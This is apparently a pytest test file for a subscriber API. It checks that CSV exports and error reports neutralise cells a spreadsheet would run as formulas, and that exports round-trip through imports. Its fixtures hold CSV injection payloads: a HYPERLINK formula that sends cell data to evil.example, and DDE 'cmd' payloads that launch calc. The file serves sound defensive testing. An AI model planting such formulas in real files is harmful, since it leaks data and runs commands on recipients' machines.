"""CSV injection (OWASP): every CSV the product writes neutralises cells a spreadsheet would run as a
formula, and an export read back by an import gives the same subscribers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app import csvsafe
from app.storage.base import Store
from tests.subscribers.support import body

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "-2+3@example.com",
    "attributes": {"note": "+cmd|' /C calc'!A0", "tab": "\t=1+1", "quote": "'=kept as is"},
}
QUOTED_NAME = "'=not a formula, a name with a quote"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def running(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would take as a formula."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULAS)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+447911123456", "'+447911123456"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("'=1", "''=1"),
        ("''-1", "'''-1"),
        ("'" * 100_000 + "=1", "'" * 100_001 + "=1"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-3, "'-3"),
    ],
)
def test_neutralise_and_restore(value: Any, written: str) -> None:
    assert csvsafe.neutralise(value) == written
    if isinstance(value, str):
        assert csvsafe.restore(written) == value


def test_restore_keeps_a_quote_that_neutralises_nothing() -> None:
    assert csvsafe.restore("'quoted") == "'quoted"
    assert csvsafe.restore("O'Neil") == "O'Neil"


def test_every_csv_writer_of_the_product_is_the_safe_one() -> None:
    """New CSV output must go through app.csvsafe: no other module builds a csv writer."""
    root = Path(__file__).resolve().parents[2] / "app"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


def export_csv(client: TestClient, headers: dict[str, str]) -> str:
    created = client.post("/migration/jobs", json={"type": "export", "format": "csv"}, headers=headers)
    assert created.status_code == 201, created.text
    output = client.get(f"/migration/jobs/{created.json()['job']['id']}/output", headers=headers)
    assert output.status_code == 200, output.text
    return output.text


def import_csv(client: TestClient, headers: dict[str, str], content: bytes) -> str:
    """The id of a subscriber import of `content`, run to its end."""
    created = client.post("/migration/jobs", json={"type": "import", "format": "csv"}, headers=headers)
    assert created.status_code == 201, created.text
    job_id: str = created.json()["job"]["id"]
    assert client.put(f"/migration/jobs/{job_id}/input", content=content, headers=headers).status_code == 200
    return job_id


def test_export_neutralises_formulas_and_round_trips_through_an_import(
    client: TestClient, role_headers: dict[str, dict[str, str]], store: Store
) -> None:
    admin = role_headers["admin"]
    originals = [
        body(1, **HOSTILE),
        body(2, uid="-leading-dash", last_name=QUOTED_NAME),
        body(3, email=None, iccid=None, attributes={}),
    ]
    for subscriber in originals:
        assert client.post("/subscribers", json=subscriber, headers=admin).status_code == 201, subscriber
    before = {uid: store.subscribers.get(uid) for uid in ("sub-0001", "-leading-dash", "sub-0003")}

    text = export_csv(client, admin)
    rows = cells(text)
    assert running(rows) == []
    header = rows[0]
    by_uid = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    first = by_uid["sub-0001"]
    assert header[:3] == ["uid", "msisdn", "imsi"]
    assert first["msisdn"] == "'+447911100001"  # E.164 starts with `+`: neutralised like any other cell
    assert first["first_name"] == "'" + HOSTILE["first_name"]
    assert first["email"] == "'-2+3@example.com"
    assert set(by_uid) == {"sub-0001", "'-leading-dash", "sub-0003"}
    assert by_uid["'-leading-dash"]["last_name"] == "'" + QUOTED_NAME

    for uid in before:
        assert client.delete(f"/subscribers/{uid}", headers=admin).status_code == 204
    job = client.post(
        "/migration/upload",
        files={"file": ("subscribers.csv", text.encode(), "text/csv")},
        data={"options": '{"mapping": {"unmapped": "ignore"}}'},
        headers=admin,
    )
    assert job.status_code == 201, job.text
    done = client.get(f"/migration/jobs/{job.json()['id']}", headers=admin).json()
    assert (done["status"], done["counts"]["created"]) == ("COMPLETED", 3), done
    fields = ("msisdn", "imsi", "iccid", "email", "first_name", "last_name", "status", "plan", "attributes")
    for uid, original in before.items():
        again = store.subscribers.get(uid)
        assert again is not None, uid
        assert again.model_dump(include=set(fields)) == original.model_dump(include=set(fields))  # type: ignore[union-attr]


def test_error_report_csv_neutralises_formulas(client: TestClient, role_headers: dict[str, dict[str, str]]) -> None:
    admin = role_headers["admin"]
    content = (
        b"uid,msisdn,imsi,first_name,last_name,plan,status\r\n"
        b's1,=HYPERLINK("http://evil.example"),234150000000001,A,B,GOLD,ACTIVE\r\n'
        b"s2,+447911100002,@SUM(1),A,B,GOLD,ACTIVE\r\n"
        b's3,+447911100003,234150000000003,A,B,GOLD,"\t=1+1"\r\n'
        b's4,+447911100004,234150000000004,A,B,-1,"\r=1+1"\r\n'
    )
    job_id = import_csv(client, admin, content)
    values = {error["value"] for error in client.get(f"/migration/jobs/{job_id}/errors", headers=admin).json()["items"]}
    assert {'=HYPERLINK("http://evil.example")', "@SUM(1)", "\t=1+1", "-1", "\r=1+1"} <= values  # JSON: as sent

    report = client.get(f"/migration/jobs/{job_id}/errors", params={"format": "csv"}, headers=admin)
    rows = cells(report.text)
    assert rows[0] == ["row", "field", "code", "message", "value"]
    assert running(rows) == []
    assert ["'" + value for value in sorted(values) if value.startswith(FORMULAS)] == sorted(
        row[4] for row in rows[1:] if row[4].startswith("'")
    )


@pytest.mark.parametrize(
    ("cell", "read"),
    [
        ('{"tier": "gold", "limit": 50, "note": "{[x]}"}', {"tier": "gold", "limit": 50, "note": "{[x]}"}),
        ("{}", {}),
        ('{"a": {"b": 1}}', '{"a": {"b": 1}}'),
        ('{"a": [1]}', '{"a": [1]}'),
        ("[1]", "[1]"),
        ("{" * 60_000, "{" * 60_000),
        ('{"a": "' + "[" * 60_000 + '"}', {"a": "[" * 60_000}),
        ("not json", "not json"),
        ('{"a": 1', '{"a": 1'),
    ],
)
def test_an_attributes_cell_is_read_only_as_a_flat_object(cell: str, read: Any) -> None:
    from app.migration.kinds import attributes_cell

    assert attributes_cell(cell) == read


def test_nested_attributes_in_a_csv_are_a_row_error(
    client: TestClient, role_headers: dict[str, dict[str, str]]
) -> None:
    admin = role_headers["admin"]
    content = (
        b"uid,msisdn,imsi,first_name,last_name,plan,attributes\r\n"
        b's1,+447911100001,234150000000001,A,B,GOLD,"{""tier"": ""gold""}"\r\n'
        b's2,+447911100002,234150000000002,A,B,GOLD,"{""a"": {""b"": 1}}"\r\n'
    )
    job_id = import_csv(client, admin, content)
    job = client.get(f"/migration/jobs/{job_id}", headers=admin).json()
    assert (job["counts"]["created"], job["counts"]["failed"]) == (1, 1)
    errors = client.get(f"/migration/jobs/{job_id}/errors", headers=admin).json()["items"]
    assert [(error["row"], error["field"]) for error in errors] == [(2, "attributes")]
    assert client.get("/subscribers/s1", headers=admin).json()["attributes"] == {"tier": "gold"}
